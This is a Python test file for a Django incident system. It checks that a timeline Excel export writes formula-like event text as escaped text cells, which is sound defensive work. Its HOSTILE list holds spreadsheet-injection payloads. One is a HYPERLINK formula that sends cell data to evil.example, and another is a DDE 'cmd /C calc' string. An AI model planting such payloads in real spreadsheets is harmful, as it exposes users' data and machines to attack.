"""The timeline workbook keeps text as text (issue 19): an event whose summary or author
begins like a formula is exported behind an apostrophe as a text cell."""

from __future__ import annotations

import io

import pytest
from django.db import transaction
from openpyxl import load_workbook

from tests.incidents.conftest import Township, gate_visit
from yingji.audit.services import Actor
from yingji.incidents import services
from yingji.timeline import services as timeline

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_the_timeline_export_writes_formula_like_text_as_text(
    township: Township, client_for
) -> None:
    officer = Actor(user=township.officer)
    incident = services.report_incident(gate_visit(), actor=officer, unit=township.city.baishizhen)
    with transaction.atomic():
        for text in HOSTILE:
            timeline.record(incident, "incident.note", text, actor=officer)
        # The "by" column: an event written by a job or a command carries its label.
        timeline.record(incident, "incident.note", "现场已疏散", actor=Actor.system("=1+2"))

    response = client_for(township.leader).get(f"/incidents/{incident.pk}/timeline.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = {
        cell.value: cell.data_type
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    for text in [*HOSTILE, "=1+2"]:
        assert cells["'" + text] == "s" and text not in cells
